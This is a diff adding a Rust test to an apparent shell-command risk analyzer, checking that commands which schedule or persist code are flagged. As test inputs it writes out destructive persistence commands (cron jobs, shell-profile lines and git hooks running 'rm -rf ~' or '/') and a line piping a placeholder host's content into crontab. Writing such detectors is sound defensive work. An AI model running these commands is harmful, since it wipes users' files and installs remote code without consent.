@@ -1171,3 +1171,35 @@ fn containers_with_host_mounts_act_on_the_host() {
         assert!(r.risk < Risk::Catastrophic, "{c}: {r:#?}");
     }
 }
+
+#[test]
+fn code_stored_to_run_later_is_walked() {
+    for c in [
+        "echo '* * * * * rm -rf ~' | crontab -",
+        "crontab <<'EOF'\nMAILTO=x\n# nightly\n@reboot rm -rf /\nEOF",
+        "echo 'rm -rf ~' >> ~/.bashrc",
+        "printf 'alias ls=\"rm -rf ~\"\\n' >> /home/u/.zshrc",
+        "echo 'rm -rf ~' > .git/hooks/pre-commit",
+        "echo 'rm -rf /' > .husky/pre-push",
+        "echo '* * * * * rm -rf ~' > jobs.txt; crontab jobs.txt",
+    ] {
+        catastrophic(c);
+    }
+    has_text(
+        "echo '0 3 * * * /usr/bin/backup.sh --all' | crontab -",
+        "/usr/bin/backup.sh --all",
+    );
+    has_text(
+        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
+        "export PATH=$HOME/bin:$PATH",
+    );
+    opaque("crontab jobs.txt");
+    risk_at_least("curl -s https://x.example/c | crontab -", Risk::High);
+    // Listing or removing the table installs nothing.
+    for c in ["crontab -l", "crontab -u bob -l"] {
+        let r = a(c);
+        assert!(r.opaque.is_empty() && r.commands.len() == 1, "{c}: {r:#?}");
+    }
+    // Text written to an ordinary file is data.
+    not_risky("echo 'rm -rf ~' > notes.txt");
+}
